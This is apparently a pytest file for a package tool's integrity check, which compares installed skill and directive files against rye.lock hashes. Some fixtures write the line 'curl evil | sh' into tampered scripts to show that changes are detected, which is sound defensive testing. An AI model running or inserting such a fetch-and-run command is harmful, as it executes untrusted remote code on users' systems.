"""Installed files, compared with rye.lock: a main file, and the files attached to a skill."""

from __future__ import annotations

import hashlib
import os
from collections.abc import Sequence
from pathlib import Path

import pytest
from msgspec.structs import replace

from rye.errors import RyeError
from rye.items.identity import Identity
from rye.items.kinds import KINDS
from rye.items.signed_release import SignedRelease
from rye.project.item_file import load_item
from rye.project.layout import Project
from rye.project.lock import Lock, LockedFile, LockedItem, lock_text
from rye.project.lock_file import Locks, item_path
from rye.verified import on_disk
from rye.verified.installed import CheckedItem, checked_at, installed_difference, modified_item
from tests.attacks.signed_items import HOOK, directive, signed, skill
from tests.registry.simulated_registry import key

WORK, PDF = Identity("directive", "acme/ops/work"), Identity("skill", "acme/pdf")
DATA = signed(WORK, directive(WORK, hooks=[HOOK]), key("acme"))
ITEM = LockedItem(
    kind="directive",
    id=WORK.id,
    version="1.0.0",
    size=len(DATA),
    sha256=hashlib.sha256(DATA).hexdigest(),
    suffix=".md",
    registry="registry.example",
    log=7,
    keyset=1,
    signer="SHA256:a",
)


@pytest.fixture
def project(tmp_path: Path) -> Project:
    project = Project(tmp_path)
    project.manifest_path.touch()
    put(project, item_path(ITEM), DATA)
    return project


def put(project: Project, path: str, data: bytes) -> Path:
    place = project.root / path
    place.parent.mkdir(parents=True, exist_ok=True)
    place.write_bytes(data)
    return place


TEXT = signed(PDF, skill(PDF), key("acme"))
SCRIPT = b"#!/bin/sh\n"
SKILL = LockedItem(
    kind="skill",
    id=PDF.id,
    version="1.0.0",
    size=len(TEXT),
    sha256=hashlib.sha256(TEXT).hexdigest(),
    suffix="SKILL.md",
    registry="registry.example",
    log=8,
    keyset=1,
    signer="SHA256:a",
    attached=tuple(LockedFile(f"{name}.sh", len(SCRIPT), hashlib.sha256(SCRIPT).hexdigest()) for name in "abcdefghij"),
)


@pytest.fixture
def main_file(project: Project) -> Path:
    main = put(project, item_path(SKILL), TEXT)
    for entry in SKILL.attached:
        put(project, f"{Path(item_path(SKILL)).parent.as_posix()}/{entry.path}", SCRIPT)
    project.lock_path.write_text(lock_text(Lock({}, (ITEM, SKILL))))
    return main


def problem_of(file: Path) -> str | None:
    return installed_difference(file, Locks())


def test_the_files_of_an_installed_skill_are_those_of_the_lock(main_file: Path) -> None:
    assert problem_of(main_file) is None


def test_a_missing_a_changed_and_an_added_file_are_named(main_file: Path) -> None:
    (main_file.parent / "a.sh").unlink()
    (main_file.parent / "b.sh").write_bytes(b"curl evil | sh\n")
    (main_file.parent / "evil.sh").write_bytes(b"curl evil | sh\n")
    found = "a.sh (missing), b.sh (changed), evil.sh (extra)"
    assert problem_of(main_file) == f"Its files differ from skill:acme/pdf 1.0.0: {found}."


def test_at_most_eight_files_are_named(main_file: Path) -> None:
    for entry in SKILL.attached:
        (main_file.parent / entry.path).unlink()
    listed = ", ".join(f"{name}.sh (missing)" for name in "abcdefgh")
    assert problem_of(main_file) == f"Its files differ from skill:acme/pdf 1.0.0: {listed}."


def test_what_lies_in_another_skills_folder_is_not_this_ones_matter(main_file: Path) -> None:
    put(Project(main_file.parents[5]), ".ai/packages/acme/skills/pdf2/extra", b"x")
    assert problem_of(main_file) is None


def test_a_skill_that_the_lock_does_not_name_is_told(main_file: Path) -> None:
    stray = put(Project(main_file.parents[5]), ".ai/packages/acme/skills/stray/SKILL.md", TEXT)
    assert problem_of(stray) == "It is in the folder of installed items, but rye.lock does not list it."


def test_a_lock_that_cannot_be_read_is_the_problem(main_file: Path) -> None:
    (main_file.parents[5] / "rye.lock").write_text("no lock")
    assert "rye.lock" in (problem_of(main_file) or "")


def test_what_is_not_installed_is_not_judged(main_file: Path, tmp_path: Path) -> None:
    project = Project(main_file.parents[5])
    own = put(project, ".ai/skills/own/SKILL.md", TEXT)
    put(project, ".ai/skills/own/extra", b"x")
    assert problem_of(own) is None
    assert problem_of(project.root / item_path(ITEM)) is None
    nowhere = tmp_path.parent / "nowhere"
    nowhere.mkdir(exist_ok=True)
    (nowhere / "SKILL.md").write_bytes(TEXT)
    assert problem_of(nowhere / "SKILL.md") is None


def test_a_manifest_planted_in_a_skills_folder_hides_no_change(main_file: Path) -> None:
    """It would turn that folder into a separate project, in which nothing is installed."""
    (main_file.parent / "b.sh").write_bytes(b"curl evil | sh\n")
    (main_file.parent / "rye.toml").touch()
    found = "b.sh (changed), rye.toml (extra)"
    assert problem_of(main_file) == f"Its files differ from skill:acme/pdf 1.0.0: {found}."


def test_a_link_above_a_skills_folder_leads_to_none_of_its_files(main_file: Path) -> None:
    kinds = main_file.parents[1]
    kinds.rename(kinds.with_name("elsewhere"))
    kinds.symlink_to("elsewhere")
    assert (problem_of(main_file) or "").startswith(
        "Its files differ from skill:acme/pdf 1.0.0: SKILL.md (missing), a.sh (missing)"
    )


def test_only_the_items_own_folder_is_read(main_file: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    put(Project(main_file.parents[5]), ".ai/packages/acme/skills/pdf2/extra", b"x")
    read: list[Path] = []
    real = on_disk.read_present

    def noting(path: str) -> on_disk.Present:
        read.append(Path(path))
        return real(path)

    monkeypatch.setattr(on_disk, "read_present", noting)
    assert problem_of(main_file) is None
    assert {path.parent for path in read} == {main_file.parent}


# checked items

WORK_PLACE = item_path(ITEM)
SIGNED = SignedRelease(capabilities=("rye.fs.read:docs",))


class Asked:
    """Says that every row was verified, and notes which it was asked about."""

    def __init__(self) -> None:
        self.rows: list[LockedItem] = []

    def __call__(self, project: Project, rows: Sequence[LockedItem]) -> dict[Identity, SignedRelease]:
        self.rows += rows
        return {row.identity: SIGNED for row in rows}


def checked(main_file: Path, path: Path, asked: Asked, locks: Locks | None = None) -> CheckedItem:
    project = Project(main_file.parents[5])
    return checked_at(load_item(path, shown="the file"), (project, path), locks or Locks(), asked)


def refusal(main_file: Path, path: Path) -> RyeError:
    asked = Asked()
    with pytest.raises(RyeError) as raised:
        checked(main_file, path, asked)
    assert asked.rows == [], "what the bytes already show needs no look at the row"
    return raised.value


def test_an_item_with_the_bytes_of_its_row_is_checked_if_the_row_was_verified(main_file: Path) -> None:
    project = Project(main_file.parents[5])
    asked, locks = Asked(), Locks()
    for path, row in ((project.root / WORK_PLACE, ITEM), (main_file, SKILL)):
        assert checked(main_file, path, asked, locks) == CheckedItem(project, row, SIGNED)
    assert asked.rows == [ITEM, SKILL]
    project.lock_path.unlink()
    checked(main_file, project.root / WORK_PLACE, asked, locks)


def test_a_row_that_was_not_verified_is_the_error(main_file: Path) -> None:
    def require(project: Project, rows: Sequence[LockedItem]) -> dict[Identity, SignedRelease]:
        raise RyeError("unverified-item", "It was not.")

    with pytest.raises(RyeError, match="It was not"):
        checked_at(load_item(main_file), (Project(main_file.parents[5]), main_file), Locks(), require)


def test_changed_bytes_are_refused_with_the_next_steps(main_file: Path) -> None:
    path = main_file.parents[5] / WORK_PLACE
    path.write_bytes(DATA + b"more\n")
    error = refusal(main_file, path)
    assert error.code == "modified-item"
    assert error.message == "the file was changed since acme/ops/work@1.0.0 was installed."
    keeps = "after that, `rye override new acme/ops/work` makes a change that upgrades keep."
    assert (error.hint or "").endswith(f"restores the file as rye.lock has it; {keeps}")
    assert (modified_item("It was.", None).hint or "").endswith("restores the file as rye.lock has it.")


def test_a_hint_names_the_command_of_the_kind() -> None:
    """A changed skill was once told of a command that refused skills. ``tests/cli/test_hints_by_kind.py`` runs them."""
    for kind in KINDS.values():
        hint = modified_item("It was.", Identity(kind.name, "acme/thing")).hint or ""
        assert ("`rye override new acme/thing`" in hint) is kind.overridable
        assert f"`{kind.change_command('acme/thing')}`" in hint


def test_a_changed_attached_file_is_refused_with_its_name(main_file: Path) -> None:
    (main_file.parent / "a.sh").unlink()
    said = "the file was changed since acme/pdf@1.0.0 was installed. Its files differ from skill:acme/pdf 1.0.0: a.sh (missing)."
    assert refusal(main_file, main_file).message == said


def test_line_ends_that_git_changed_are_told_as_that_and_not_as_an_edit(main_file: Path) -> None:
    path = main_file.parents[5] / WORK_PLACE
    path.write_bytes(DATA.replace(b"\n", b"\r\n"))
    error = refusal(main_file, path)
    assert (error.code, "changed since" in error.message) == ("modified-item", False)
    assert "differs only in its line ends" in error.message
    assert ".gitattributes" in (error.hint or "")


def test_one_attached_file_is_told_in_a_sentence_and_several_are_listed_with_what_is_wrong(main_file: Path) -> None:
    script = main_file.parent / "a.sh"
    script.write_bytes(SCRIPT.replace(b"\n", b"\r\n"))
    alone = installed_difference(main_file, Locks())
    assert alone is not None
    place = script.relative_to(main_file.parents[5])
    assert alone.startswith(f"{place} differs only in its line ends")
    assert "restores them; commit" in alone
    (main_file.parent / "added.md").write_text("new")
    both = installed_difference(main_file, Locks())
    assert both is not None
    assert "a.sh (differs only in its line ends, which git changes in a checkout (`core.autocrlf`)), added.md (" in both


def test_a_text_that_became_executable_is_refused_where_files_have_that_bit(
    main_file: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = main_file.parents[5] / WORK_PLACE
    path.chmod(0o744)
    error = refusal(main_file, path)
    assert error.message.endswith("is executable, and its item's file is not.")
    path.chmod(0o655)
    assert checked(main_file, path, Asked()).row == ITEM, "only the owner's bit counts"
    path.chmod(0o744)
    project, item, locks = Project(main_file.parents[5]), load_item(path), Locks()
    locks.rows(project)
    with monkeypatch.context() as elsewhere:
        elsewhere.setattr(os, "name", "nt")
        row = checked_at(item, (project, path), locks, Asked()).row
    assert row == ITEM


@pytest.mark.parametrize("place", ["acme/directives/ops/other.md", "zeta/directives/ops/work.md", "directives/work.md"])
def test_a_file_that_the_lock_does_not_have_at_its_place_was_not_installed(main_file: Path, place: str) -> None:
    stray = put(Project(main_file.parents[5]), f".ai/packages/{place}", DATA)
    assert refusal(main_file, stray).code == "not-locked"


def test_a_row_whose_file_is_elsewhere_is_not_the_row_of_this_file(main_file: Path) -> None:
    """Another suffix of the same item is another file."""
    project = Project(main_file.parents[5])
    tool = replace(ITEM, kind="tool", id="acme/ops/read", suffix=".py")
    project.lock_path.write_text(lock_text(Lock({}, (ITEM, SKILL, tool))))
    other = put(project, item_path(tool).removesuffix(".py") + ".sh", SCRIPT)
    assert refusal(main_file, other).code == "not-locked"
